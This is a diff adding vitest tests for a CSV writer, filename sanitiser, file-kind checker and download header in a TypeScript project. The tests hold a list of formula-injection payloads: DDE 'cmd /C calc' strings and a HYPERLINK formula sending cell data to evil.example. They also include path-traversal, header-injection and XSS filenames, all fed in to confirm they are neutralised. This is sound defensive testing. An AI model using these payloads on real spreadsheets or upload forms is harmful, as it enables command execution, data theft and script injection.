@@ -1,4 +1,7 @@
 import { expect, test } from 'vitest';
+import { fileName, savedAs } from '#domain/documents/file-name.ts';
+import { kindOf, sizeText } from '#domain/documents/kinds.ts';
+import { csvLine } from '#domain/text/csv.ts';
 import { block, EMAIL_PATTERN, emailAddress, filled, line } from '#domain/text/text.ts';
 
 function accepts(schema: typeof line, value: unknown): boolean {
@@ -32,6 +35,7 @@ test.each(['\n', '\r', '\t'])('1.3.11 %j may stand in a block but not in a line'
 });
 
 const CONTROL_CHARACTERS = [0x00, 0x07, 0x0b, 0x1b, 0x1f, 0x7f, 0x80, 0x9f];
+
 const LONE_SURROGATES = [0xd800, 0xdbff, 0xdc00, 0xdfff];
 
 test.each([...CONTROL_CHARACTERS, ...LONE_SURROGATES])(
@@ -95,3 +99,88 @@ test('in Latin text joiners are removed and characters composed; an address with
   expect(line.parse('Zoe\u0308')).toBe('Zo\u00eb');
   expect(emailAddress.safeParse('अ\u200d@example.com').success).toBe(false);
 });
+
+test('cells are parted by commas, records by CRLF, and a number is left as it is', () => {
+  expect(csvLine(['a', 1, null, 2.5, ''])).toBe('a,1,,2.5,\r\n');
+  expect(csvLine([-5])).toBe('-5\r\n');
+});
+
+test.each([
+  ['a,b', '"a,b"'],
+  ['say "yes"', '"say ""yes"""'],
+  ['two\nlines', '"two\nlines"'],
+  ['two\r\nlines', '"two\r\nlines"'],
+  ['plain', 'plain'],
+  ['हिन्दी 😀', 'हिन्दी 😀'],
+])('%j is quoted where RFC 4180 says so', (cell, written) => {
+  expect(csvLine([cell])).toBe(`${written}\r\n`);
+});
+
+/** Of OWASP's page on CSV injection, and of lists that go round. */
+const attacks = [
+  ...['=1+1', '+1+1', '-1+1', "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"],
+  '=HYPERLINK("http://evil.example?x="&A1,"here")',
+  ...['+919876543210', '+91 98765=1+1', '\t=1+1', '\r=1+1', '\u0000=1+1', '\n=1+1', ' =1+1'],
+  ...['a,=1+1', 'a;=1+1', 'a|=1+1', 'a\t=1+1', 'a\n=1+1', 'a\r\n=1+1', 'a","=1+1', '"=1+1'],
+  ...['＝1+1', '＋1', '－1', '＠SUM(1)', "%0A-3+3+cmd|' /C calc'!D2\n-1", ';=cmd'],
+];
+
+/** However a spreadsheet takes it apart: by commas, semicolons, tabs, bars or lines, with quotes or without. */
+function cellsAnyhow(line: string): string[] {
+  return line.split(/[,;|\t\r\n"]/).map((cell) => cell.trim());
+}
+
+test.each(attacks)('1.2.10 no spreadsheet takes %j for a formula', (attack) => {
+  const line = csvLine(['before', attack, 'after']);
+
+  for (const cell of cellsAnyhow(line)) expect(cell).not.toMatch(/^[=+\-@＝＋－＠]/);
+  expect(line).not.toMatch(/,"?\p{Cc}/u);
+});
+
+test.each([
+  ['CV.pdf', 'CV.pdf'],
+  ['  My  CV .pdf ', 'My CV .pdf'],
+  ['../../etc/passwd.txt', 'passwd.txt'],
+  ['C:\\Users\\Asha\\CV.docx', 'CV.docx'],
+  ['.htaccess.txt', 'htaccess.txt'],
+  ['CV.pdf...', 'CV.pdf'],
+  ['CV\u202efdp.txt', 'CVfdp.txt'],
+  ['a\r\nSet-Cookie: x.txt', 'aSet-Cookie x.txt'],
+  ['<img src=x onerror=alert(1)>.png', 'img src=x onerror=alert(1).png'],
+  ['प्रतिलेख.pdf', 'प्रतिलेख.pdf'],
+  ['क्\u200dष.pdf', 'क्\u200dष.pdf'],
+  ['cafe\u0301.txt', 'café.txt'],
+  ['plan\ud800.txt', 'plan.txt'],
+  ['.txt', ''],
+  ['pdf', ''],
+  ['', ''],
+  ['folder/', ''],
+])('%j is kept as %j', (sent, kept) => expect(fileName(sent)).toBe(kept));
+
+test('a long name keeps its ending and whole characters', () => {
+  const name = fileName(`${'👋'.repeat(500)}.docx`);
+  expect(Array.from(name)).toHaveLength(120);
+  expect(name).toMatch(/👋\.docx$/u);
+});
+
+test.each([
+  ['CV.PDF', 'pdf'],
+  ['me.JPG', 'jpeg'],
+  ['plan.pdf.exe', undefined],
+  ['plan.docm', undefined],
+  ['plan.constructor', undefined],
+])('%s is of the kind %s', (name, kind) => expect(kindOf(name)).toBe(kind));
+
+test('a name is saved by both ways to write it, in one header', () => {
+  expect(savedAs('प्लान "1"; x.txt')).toBe(
+    `attachment; filename="_____ _1_; x.txt"; filename*=UTF-8''%E0%A4%AA%E0%A5%8D%E0%A4%B2%E0%A4%BE%E0%A4%A8%20%221%22%3B%20x.txt`,
+  );
+  expect(savedAs("it's (1)*.txt")).toContain("UTF-8''it%27s%20%281%29%2A.txt");
+});
+
+test.each([
+  [1, '1 KB'],
+  [86_016, '84 KB'],
+  [1_500_000, '1.4 MB'],
+  [10 * 1024 * 1024, '10 MB'],
+])('%d bytes are %s', (bytes, text) => expect(sizeText(bytes)).toBe(text));
